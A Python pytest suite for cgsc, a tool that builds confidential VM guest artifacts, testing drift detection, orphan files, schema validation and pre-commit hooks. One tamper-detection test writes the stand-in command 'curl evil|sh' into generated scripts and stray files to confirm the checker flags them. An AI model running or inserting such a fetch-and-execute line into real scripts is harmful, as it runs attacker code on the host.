"""The review gate: artifacts that never drift by spelling, `check --all` over a whole
repository, the published schema for editors, and the pre-commit hooks run for real."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys

import pytest
from helpers import EXAMPLES, INVALID, ROOT, run_cli

from cgsc.core.rules import load_all

GIT = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid", "-c", "commit.gpgsign=false"]
FLEET = os.path.join(ROOT, "examples", "fleet")


def _files(root):
    return {os.path.relpath(str(p), root): p.read_bytes() for p in root.rglob("*") if p.is_file()}


def _repo(tmp_path):
    """A throwaway git repository with the example fleet under guests/ and a single spec."""
    repo = tmp_path / "repo"
    shutil.copytree(FLEET, repo / "guests" / "fleet")
    shutil.copy(os.path.join(ROOT, "examples", "sev-snp.toml"), repo / "guests")
    subprocess.run(GIT + ["init", "-q", str(repo)], check=True)
    return repo


def _specs(repo):
    return sorted(str(p.relative_to(repo)) for p in (repo / "guests").rglob("*.toml")
                  if p.name != "base.toml")


# -- no false drift ---------------------------------------------------------------------------

def test_artifacts_do_not_depend_on_the_spelling_of_the_path_or_the_working_directory(tmp_path, monkeypatch):
    repo = _repo(tmp_path)
    monkeypatch.chdir(repo)
    specs = _specs(repo)
    assert run_cli("build", *specs, "-o", "out")[0] == 0
    reference = _files(repo / "out")
    # the manifest records the path relative to the repository root, whatever was typed
    manifest = json.loads((repo / "out" / "web-1" / "manifest.json").read_text())
    assert [s["path"] for s in manifest["spec"]] == ["guests/fleet/web-1.toml", "guests/fleet/base.toml"]
    spellings = [["./" + s for s in specs], [str(repo / s) for s in specs],
                 [os.path.join("guests", "..", s) for s in specs]]
    for spelling in spellings:
        code, out, err = run_cli("check", *spelling, "-o", "out")
        assert code == 0, out + err
        shutil.rmtree(tmp_path / "again", ignore_errors=True)
        assert run_cli("build", *spelling, "-o", str(tmp_path / "again"))[0] == 0
        assert _files(tmp_path / "again") == reference
    monkeypatch.chdir(repo / "guests" / "fleet")     # another working directory
    code, out, err = run_cli("check", "web-3.toml", "../sev-snp.toml", "-o", "../../out")
    assert code == 0, out + err
    monkeypatch.chdir(tmp_path)                       # outside the repository
    code, out, err = run_cli("check", *[os.path.join("repo", s) for s in specs], "-o", "repo/out")
    assert code == 0, out + err


# -- check --all -----------------------------------------------------------------------------

def test_check_all_finds_every_guest_and_orphans(tmp_path, monkeypatch):
    repo = _repo(tmp_path)
    monkeypatch.chdir(repo)
    assert run_cli("build", *_specs(repo))[0] == 0
    code, out, err = run_cli("check", "--all")
    assert code == 0 and out == "" and "4 guest(s) up to date" in err
    # a base changed: every child is out of date, though no child file changed
    base = repo / "guests" / "fleet" / "base.toml"
    base.write_text(base.read_text().replace("vcpus = 2", "vcpus = 3"))
    code, out, err = run_cli("check", "--all", "--format", "json")
    drifted = {d["message"] for d in json.loads(out) if d["rule"] == "CGS-CHECK-001"}
    # every child's manifest records the base's sha256; web-3 sets its own vcpus
    assert code == 1 and drifted == {
        "out/web-1/ is out of date: manifest.json changed, web-1.service changed, web-1.sh "
        "changed, web-1.xml changed",
        "out/web-2/ is out of date: manifest.json changed, web-2.service changed, web-2.sh "
        "changed, web-2.xml changed",
        "out/web-3/ is out of date: manifest.json changed"}
    # the base named on the command line (pre-commit passes it) is checked through its children
    code, out2, _err = run_cli("check", "--all", "guests/fleet/base.toml", "--format", "json")
    assert code == 1 and out2 == out
    base.write_text(base.read_text().replace("vcpus = 3", "vcpus = 2"))
    # a spec removed, and a spec that now builds another guest: both directories are orphans
    (repo / "guests" / "sev-snp.toml").unlink()
    web2 = repo / "guests" / "fleet" / "web-2.toml"
    web2.write_text(web2.read_text().replace('name = "web-2"', 'name = "web-two"'))
    code, out, err = run_cli("check", "--all")
    assert code == 1 and out == ""
    # each problem once: one line each, with the one command that fixes them all
    assert "out/payments-db: (top level): its spec guests/sev-snp.toml is gone [CGS-CHECK-002]" in err
    assert ("out/web-2: (top level): guests/fleet/web-2.toml now builds guest 'web-two', not "
            "'web-2' [CGS-CHECK-002]") in err
    assert "out/web-two/ is out of date: manifest.json missing, " in err   # not built yet
    assert err.count("[CGS-CHECK-002]") == 2 and err.count("[CGS-CHECK-001]") == 1
    assert "cgsc: 1 guest out of date (4 artifacts); 2 entries of out/ that no spec builds" in err
    assert ("cgsc: fix: cgsc build --prune -o out guests/fleet/web-1.toml guests/fleet/web-2.toml "
            "guests/fleet/web-3.toml && git add -A out") in err
    assert "  hint: " not in err.split("[CGS-CHECK-002]")[1]
    assert run_cli("build", "--prune", "-o", "out", "guests/fleet/web-1.toml",
                   "guests/fleet/web-2.toml", "guests/fleet/web-3.toml")[0] == 0
    code, out, err = run_cli("check", "--all")
    assert code == 0 and "3 guest(s) up to date" in err, err
    assert "CGS-CHECK-002" in load_all()
    # nothing named and no --all: a usage error
    assert run_cli("check")[0] == 2


def test_check_all_accounts_for_every_file_under_the_output_directory(tmp_path, monkeypatch):
    """Deleting a manifest must not hide a tampered artifact: whatever lies under -o is
    either a guest directory whose manifest names a spec that builds it, or cgsc's private
    state directory, or a finding."""
    repo = _repo(tmp_path)
    monkeypatch.chdir(repo)
    assert run_cli("build", "guests/sev-snp.toml", "-o", "out")[0] == 0
    (repo / "out" / ".cgsc" / "staging").mkdir(parents=True)   # an interrupted build's state
    assert run_cli("check", "--all", "-o", "out")[0] == 0
    guest = repo / "out" / "payments-db"
    with open(guest / "payments-db.sh", "a") as fh:
        fh.write("curl evil|sh\n")
    (guest / "manifest.json").unlink()
    code, out, err = run_cli("check", "--all", "-o", "out")
    assert code == 1 and "up to date" not in err
    assert "out/payments-db: (top level): no manifest.json; " in err and "[CGS-CHECK-002]" in err
    shutil.rmtree(guest)
    assert run_cli("build", "guests/sev-snp.toml", "-o", "out")[0] == 0
    # a directory without a manifest, a stray file, a symlink, a copy of a guest directory
    (repo / "out" / "rogue").mkdir()
    (repo / "out" / "rogue" / "rogue.sh").write_text("curl evil|sh\n")
    (repo / "out" / "stray.sh").write_text("curl evil|sh\n")
    (repo / "out" / "link").symlink_to(guest)
    shutil.copytree(guest, repo / "out" / "copy")
    code, out, err = run_cli("check", "--all", "-o", "out", "--format", "json")
    assert code == 1
    flagged = {d["file"] for d in json.loads(out) if d["rule"] == "CGS-CHECK-002"}
    assert flagged == {f"out/{n}" for n in ("rogue", "stray.sh", "link", "copy")}
    # a missing or mistyped output directory has nothing to compare: an error, not "up to date"
    for missing in ("outt", str(tmp_path / "nowhere")):
        code, _out, err = run_cli("check", "--all", "-o", missing)
        assert code == 2 and "up to date" not in err and "Traceback" not in err
    # a named spec whose artifacts are missing is drift, with or without --all
    for all_ in ([], ["--all"]):
        code, out, err = run_cli("check", *all_, "guests/sev-snp.toml", "-o", "outt")
        assert code == 1 and "outt/payments-db/ is out of date: manifest.json missing, " in err


# -- the published schema, for editors ---------------------------------------------------------

def _schema():
    code, out, _ = run_cli("schema")
    assert code == 0
    return json.loads(out)


def _toml(path):
    import tomllib
    with open(path, "rb") as fh:
        return tomllib.load(fh)


def _all_spec_files():
    bases = [os.path.join(FLEET, "base.toml")]
    support = sorted(str(p) for p in __import__("pathlib").Path(ROOT, "tests", "invalid", "support").glob("*.toml"))
    return EXAMPLES + bases + INVALID + support


@pytest.mark.parametrize("spec", _all_spec_files(), ids=lambda p: os.path.relpath(p, ROOT))
def test_schema_accepts_a_file_exactly_when_cgsc_does(spec, monkeypatch):
    """An editor validates the file as written (no merge); cgsc validates the merged spec.
    For every example (fleet children and base included) both accept. For the invalid
    corpus, a schema rule (CGS-SCHEMA-*) is refused by both; a cross-field rule only by
    cgsc, whose rules go beyond JSON Schema."""
    from jsonschema import Draft202012Validator
    validator = Draft202012Validator(_schema())
    try:
        data = _toml(spec)
    except (ValueError, UnicodeDecodeError):  # not TOML: refused before any schema
        assert run_cli("validate", spec)[0] == 1
        return
    schema_ok = not list(validator.iter_errors(data))
    monkeypatch.chdir(os.path.dirname(spec))
    code, _out, err = run_cli("validate", os.path.basename(spec))
    name = os.path.basename(spec)
    if spec in EXAMPLES or name == "base.toml":
        assert schema_ok and code == 0, err
    elif re.match(r"CGS-(SCHEMA|SPEC)-\d{3}\.toml$", name) and "extends" not in data:
        assert not schema_ok and code == 1
    elif schema_ok is False:  # whatever the schema refuses, cgsc refuses too
        assert code != 0, err


def test_fleet_children_are_valid_for_an_editor():
    from jsonschema import Draft202012Validator
    validator = Draft202012Validator(_schema())
    for child in ("web-1.toml", "web-2.toml", "web-3.toml"):
        assert list(validator.iter_errors(_toml(os.path.join(FLEET, child)))) == [], child
    # without extends, the same file is incomplete: the schema says which keys are missing
    missing = set()
    for name in ("web-1.toml", "web-3.toml"):
        child = _toml(os.path.join(FLEET, name))
        del child["extends"]
        missing |= {e.message for e in validator.iter_errors(child)}
    assert missing == {"'memory' is a required property", "'confidential' is a required property",
                       "'cbitpos' is a required property", "'reduced-phys-bits' is a required property"}


def test_a_partial_base_is_checked_on_its_own_terms(tmp_path):
    from jsonschema import Draft202012Validator

    from cgsc.spec.schema import partial
    with open(os.path.join(FLEET, "base.toml")) as fh:   # the fleet base, without [guest],
        text = re.sub(r"\[guest\]\n(.+\n)+", "", fh.read())   # and not abstract
    assert text.count("abstract = true\n") == 1
    text = text.replace("abstract = true\n", "")
    assert "[guest]" not in text and "[confidential.sev-snp]" in text
    base = tmp_path / "partial.toml"
    base.write_text(text)
    code, _out, err = run_cli("validate", str(base))
    assert code == 1 and "CGS-SCHEMA-002" in err        # not a whole guest
    code, _out, err = run_cli("validate", "--base", str(base))
    assert code == 0 and "1 base spec valid" in err
    assert list(Draft202012Validator(partial(_schema())).iter_errors(_toml(base))) == []
    code, out, _ = run_cli("schema", "--base")             # what an editor gets for bases
    assert code == 0 and json.loads(out) == partial(_schema())
    assert list(Draft202012Validator(json.loads(out)).iter_errors(_toml(base))) == []
    assert list(Draft202012Validator(_schema()).iter_errors(_toml(base)))   # not a whole guest
    bad = tmp_path / "bad.toml"
    bad.write_text(text + "\n[guest]\nvcpu = 2\n")
    code, _out, err = run_cli("validate", "--base", str(bad))
    assert code == 1 and "guest.vcpu: unknown key" in err and "[CGS-SCHEMA-001]" in err
    assert "CGS-SCHEMA-002" not in err


# -- validate == build -----------------------------------------------------------------------

def test_validate_reports_what_build_refuses(tmp_path):
    spec = os.path.join(ROOT, "examples", "sev-snp.toml")
    twin = tmp_path / "twin.toml"
    shutil.copy(spec, twin)
    code, _out, err = run_cli("validate", spec, str(twin))
    assert code == 1 and "[CGS-TARGET-002]" in err
    assert run_cli("build", spec, str(twin), "-o", str(tmp_path / "o"))[0] == 1
    vsock = os.path.join(ROOT, "tests", "cases", "tdx-vsock-qgs.toml")
    code, _out, err = run_cli("validate", vsock, "-t", "libvirt")
    build_code, _out, build_err = run_cli("build", vsock, "-t", "libvirt", "-o", str(tmp_path / "o"))
    assert code == build_code == 1 and "[CGS-LIBVIRT-001]" in err
    assert err.replace("nothing written", "") == build_err.replace("nothing written", "")
    assert not (tmp_path / "o").exists()


# -- pre-commit, for real --------------------------------------------------------------------

def _readme_block(marker):
    """A YAML block of the fleets guide (pre-commit configuration, CI steps)."""
    with open(os.path.join(ROOT, "docs", "fleets.md"), encoding="utf-8") as fh:
        text = fh.read()
    blocks = re.findall(r"```yaml\n(.*?)```", text, re.S)
    return next(b for b in blocks if marker in b)


def _commit(repo):
    subprocess.run(GIT + ["-C", str(repo), "add", "-A"], check=True)
    subprocess.run(GIT + ["-C", str(repo), "commit", "-q", "-m", "x", "--no-verify"], check=True)


def _pre_commit(pre_commit, repo, tmp_path):
    env = dict(os.environ, PRE_COMMIT_HOME=str(tmp_path / "cache"),
               PATH=os.path.dirname(sys.executable) + os.pathsep + os.environ.get("PATH", ""))
    subprocess.run(GIT + ["-C", str(repo), "add", "-A"], check=True)
    return subprocess.run([pre_commit, "run"], cwd=repo, env=env, capture_output=True,
                          text=True, timeout=600)


def test_readme_pre_commit_config_is_a_gate_as_pasted(tmp_path, tool):
    pre_commit = tool("pre-commit")
    if not shutil.which("cgsc", path=os.path.dirname(sys.executable)):
        pytest.skip("cgsc is not installed beside this Python")
    repo = tmp_path / "repo"
    (repo / "guests" / "bases").mkdir(parents=True)
    # a partial base under guests/bases/ and two children, as the README lays them out
    with open(os.path.join(FLEET, "base.toml")) as fh:
        base = fh.read().replace('name = "web-base"\n', "")
    (repo / "guests" / "bases" / "web.toml").write_text(base)
    for child in ("web-1.toml", "web-2.toml"):
        with open(os.path.join(FLEET, child)) as fh:
            (repo / "guests" / child).write_text(fh.read().replace('"base.toml"', '"bases/web.toml"'))
    (repo / ".pre-commit-config.yaml").write_text(_readme_block("repo: local"))
    subprocess.run(GIT + ["init", "-q", str(repo)], check=True)
    subprocess.run([sys.executable, "-m", "cgsc", "build", "guests/web-1.toml", "guests/web-2.toml"],
                   cwd=repo, check=True, capture_output=True)
    result = _pre_commit(pre_commit, repo, tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr
    _commit(repo)
    # a fleet base changed, one child rebuilt: the hook fails, naming the other child
    base_file = repo / "guests" / "bases" / "web.toml"
    base_file.write_text(base_file.read_text().replace("vcpus = 2", "vcpus = 3"))
    subprocess.run([sys.executable, "-m", "cgsc", "build", "guests/web-1.toml"], cwd=repo,
                   check=True, capture_output=True)
    result = _pre_commit(pre_commit, repo, tmp_path)
    assert result.returncode == 1, result.stdout
    # a summary: which artifacts of which guest, and the one command that fixes it
    assert ("guests/web-2.toml:5: guest.name: out/web-2/ is out of date: manifest.json changed, "
            "web-2.service changed, web-2.sh changed, web-2.xml changed [CGS-CHECK-001]") in result.stdout
    assert "cgsc: fix: cgsc build -o out guests/web-2.toml && git add out" in result.stdout
    assert "out/web-1/" not in result.stdout and "@@" not in result.stdout   # no diff by default
    subprocess.run([sys.executable, "-m", "cgsc", "build", "guests/web-2.toml"], cwd=repo,
                   check=True, capture_output=True)
    assert _pre_commit(pre_commit, repo, tmp_path).returncode == 0
    _commit(repo)
    # an artifact edited by hand: only out/ changed, and the hook still fails
    script = repo / "out" / "web-1" / "web-1.sh"
    edited = script.read_text().replace("-smp 3", "-smp 64")
    assert edited != script.read_text()
    script.write_text(edited)
    result = _pre_commit(pre_commit, repo, tmp_path)
    assert result.returncode == 1 and "out/web-1/ is out of date: web-1.sh changed" in result.stdout
    subprocess.run(GIT + ["-C", str(repo), "checkout", "-q", "--", "out"], check=True)
    # a broken base fails the base hook, a broken child the spec hook
    base_file.write_text(base_file.read_text() + "\n[qemu]\nsandbx = true\n")
    result = _pre_commit(pre_commit, repo, tmp_path)
    assert result.returncode == 1 and "qemu.sandbx: unknown key" in result.stdout


def test_shipped_hooks_check_the_whole_output_directory(tmp_path, tool):
    """.pre-commit-hooks.yaml, installed by pre-commit from this repository: cgsc-check
    fails on a hand-edited artifact even when no TOML file changed."""
    pre_commit = tool("pre-commit")
    repo = _repo(tmp_path)
    subprocess.run([sys.executable, "-m", "cgsc", "build", *_specs(repo)], cwd=repo, check=True,
                   capture_output=True)
    _commit(repo)
    env = dict(os.environ, PRE_COMMIT_HOME=str(tmp_path / "cache"))

    def hook(*files):
        extra = ["--files", *files] if files else ["--all-files"]
        return subprocess.run([pre_commit, "try-repo", ROOT, "cgsc-check", *extra], cwd=repo,
                              env=env, capture_output=True, text=True, timeout=600)
    assert hook().returncode == 0
    unit = repo / "out" / "web-3" / "web-3.service"
    edited = unit.read_text().replace("\nRestart=", "\nRestart=no\n#")
    assert edited != unit.read_text()
    unit.write_text(edited)
    result = hook("out/web-3/web-3.service")
    assert result.returncode == 1 and "out/web-3/ is out of date: web-3.service changed" in result.stdout


def test_readme_install_and_ci_snippets_never_use_pypi_or_the_system_python():
    docs = [os.path.join(ROOT, "docs", f) for f in os.listdir(os.path.join(ROOT, "docs"))
            if f.endswith(".md")]
    with open(os.path.join(ROOT, "README.md"), encoding="utf-8") as fh:
        text = fh.read()
    installs = re.findall(r"^.*pip install.*$", text, re.M)
    for doc in docs:
        with open(doc, encoding="utf-8") as fh:
            installs += re.findall(r"^.*pip install.*$", fh.read(), re.M)
    assert installs
    for line in installs:
        assert not re.search(r"pip install (-U )?cgsc\b", line), line          # not on PyPI
        assert "python3 -m pip" not in line, line                              # PEP 668 refuses it
        assert re.search(r"pip install (-q )?(-e )?('\.\[test\]'|\.|\"git\+)", line), line
    sh = re.search(r"```sh\n(.*?)```", text, re.S).group(1)
    assert sh.index("python3 -m venv") < sh.index("pip install")


def test_readme_ci_commands_run_as_written(tmp_path, monkeypatch):
    """The CI example's cgsc commands, run in a repository laid out as it assumes."""
    ci = _readme_block("GitHub Actions")
    commands = re.findall(r"^- run: \.venv/bin/(cgsc .*?)(?:\s+#.*)?$", ci, re.M)
    assert len(commands) >= 4
    repo = _repo(tmp_path)
    monkeypatch.chdir(repo)
    specs = [s for s in _specs(repo) if s.count("/") == 1]          # guests/*.toml
    assert run_cli("build", *specs, "-o", "out")[0] == 0
    _commit(repo)
    subprocess.run(GIT + ["branch", "-q", "main"], check=True)
    subprocess.run(GIT + ["update-ref", "refs/remotes/origin/main", "HEAD"], check=True)
    for command in commands:
        command = command.replace("${{ github.base_ref }}", "main")
        argv = [a for a in re.split(r"\s+", command.split(">")[0].split("||")[0].strip())][1:]
        expanded = []
        for arg in argv:
            expanded += sorted(str(p.relative_to(repo)) for p in repo.glob(arg)) if "*" in arg else [arg]
        code, out, err = run_cli(*expanded)
        assert code == 0, (command, out, err)


def test_check_all_scans_under_the_lock_and_never_sees_a_build_half_done(tmp_path):
    """A build installs a new guest's files before its manifest: `check --all` must wait
    for the build's exclusive lock, not report its half-installed directory."""
    import fcntl
    import time
    repo = _repo(tmp_path)
    assert subprocess.run([sys.executable, "-m", "cgsc", "build", "guests/sev-snp.toml"],
                          cwd=repo, capture_output=True).returncode == 0
    out = repo / "out"
    fd = os.open(out, os.O_RDONLY | os.O_DIRECTORY)
    fcntl.flock(fd, fcntl.LOCK_EX)            # a build in progress ...
    half = out / "new-guest"
    half.mkdir()
    (half / "new-guest.sh").write_text("#!/bin/sh\n")   # ... installing, manifest not yet there
    proc = subprocess.Popen([sys.executable, "-m", "cgsc", "check", "--all"], cwd=repo,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        time.sleep(1.5)
        assert proc.poll() is None            # waiting for the build
        shutil.rmtree(half)                   # the build ends (here: as it began)
    finally:
        os.close(fd)
    stdout, stderr = proc.communicate(timeout=60)
    assert proc.returncode == 0 and "1 guest(s) up to date" in stderr, stdout + stderr
